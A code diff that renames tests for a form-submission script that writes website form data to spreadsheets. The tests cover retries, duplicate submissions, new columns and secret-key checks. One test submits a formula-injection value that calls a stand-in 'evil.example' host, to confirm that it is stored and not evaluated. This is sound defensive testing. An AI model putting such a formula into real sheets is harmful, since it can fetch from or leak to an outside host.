@@ -24,7 +24,7 @@ let book: SheetBook;
 let handleSubmission: SubmissionHandler;
 let log: string;
 
-/** A website that has just started, with its forms at the script. */
+/** A started website that sends its forms to the script. */
 function open() {
   const toEndpoint = (form: string) => `${host.url}?form=${form}&key=change-me`;
   handleSubmission = createSubmissionHandler({
@@ -81,19 +81,19 @@ describe.each(senders)('a script for the %s form', (_form, send) => {
     text('{}'),
     text('"error"'),
     text('', ''),
-  ])('that answers %j after its redirect has stored it, under our id', async (output) => {
+  ])('that returns %j after its redirect has stored it, under our id', async (output) => {
     host.doPost = () => output;
     expect(await send()).toMatchObject({ kind: 'stored', reference: SUBMISSION_ID });
     expect(host.fetched).toMatchObject([{ method: 'GET', body: '' }]);
     expect(JSON.stringify(host.fetched)).not.toMatch(/authorization|idempotency|submissionId/i);
   });
 
-  it('that gives a reference is quoted', async () => {
+  it('that returns a reference has it on the receipt', async () => {
     host.doPost = () => text('{"ok":true,"reference":"ROW-7"}');
     expect(await send()).toMatchObject({ reference: 'ROW-7' });
   });
 
-  it('that breaks shows a page with status 200, and has not', async () => {
+  it('that fails sends a page with status 200, and has not stored it', async () => {
     host.doPost = () => {
       throw new Error('Exception: Service Spreadsheets timed out for nour@nile.example');
     };
@@ -108,14 +108,14 @@ describe.each(senders)('a script for the %s form', (_form, send) => {
     text('{"result":"error","error":"No sheet"}'),
     text('{"ok":false}'),
     text('{"error":"No sheet"}'),
-  ])('that answers %j after its redirect has not', async (output) => {
+  ])('that returns %j after its redirect has not stored it', async (output) => {
     host.doPost = () => output;
     expect(await send()).toMatchObject({ kind: 'rejected', status: 503 });
   });
 });
 
 describe('the documented script', () => {
-  it('keeps every field of every form as it was typed', async () => {
+  it('stores every field of every form unchanged', async () => {
     for (const [, send] of senders) expect((await send()).kind).toBe('stored');
     expect(book.sheets.get('contact')?.[1]?.slice(3)).toEqual(Object.values(message));
     expect(book.sheets.get('enquiry')?.[1]?.slice(3)).toEqual(Object.values(enquiry));
@@ -130,7 +130,7 @@ describe('the documented script', () => {
     expect(book.files[0]?.bytes.equals(pdf)).toBe(true);
   });
 
-  it('adds a column for a field that the form gets later', async () => {
+  it('adds a column for a new field of the form', async () => {
     book.sheets.set('contact', [['submissionId', 'print', 'received', 'email', 'fax']]);
     await sendContact();
     const [columns = [], row = []] = book.sheets.get('contact') ?? [];
@@ -139,7 +139,7 @@ describe('the documented script', () => {
     expect(stored).toMatchObject({ ...message, fax: '' });
   });
 
-  it('writes a message that is sent again once, also by another process', async () => {
+  it('stores a message that is sent again once, also from another process', async () => {
     for (let round = 0; round < 3; round += 1) {
       expect(await sendContact()).toMatchObject({ kind: 'stored', reference: SUBMISSION_ID });
       await sendApplication();
@@ -150,7 +150,7 @@ describe('the documented script', () => {
     expect(book.files).toHaveLength(1);
   });
 
-  it('writes one whose answer was lost once', async () => {
+  it('stores a message whose response was lost once', async () => {
     const run = host.doPost;
     host.doPost = (event) => {
       run(event);
@@ -162,7 +162,7 @@ describe('the documented script', () => {
     expect(book.sheets.get('contact')).toHaveLength(2);
   });
 
-  it('writes one that was edited after going back as a second one', async () => {
+  it('stores a message that was edited after going back as a second one', async () => {
     await sendContact();
     open();
     expect((await sendContact({ message: 'On second thought: lamps.' })).kind).toBe('stored');
@@ -171,7 +171,7 @@ describe('the documented script', () => {
     expect(book.sheets.get('contact')).toHaveLength(3);
   });
 
-  it('computes nothing that was typed', async () => {
+  it('evaluates no formula in a message', async () => {
     await sendContact({ subject: '=IMPORTXML("https://evil.example","//a")', company: "'quoted" });
     const row = book.sheets.get('contact')?.[1] ?? [];
     expect(row).toContain('=IMPORTXML("https://evil.example","//a")');
@@ -179,7 +179,7 @@ describe('the documented script', () => {
     expect(row).toContain(message.phone);
   });
 
-  it('takes nothing from whoever does not know its word, or while another message is written', async () => {
+  it('rejects requests without its secret, or while it stores another message', async () => {
     const { doPost } = host;
     host.doPost = (event) => doPost({ ...event, parameter: { ...event.parameter, key: 'guess' } });
     expect((await sendContact()).kind).toBe('rejected');
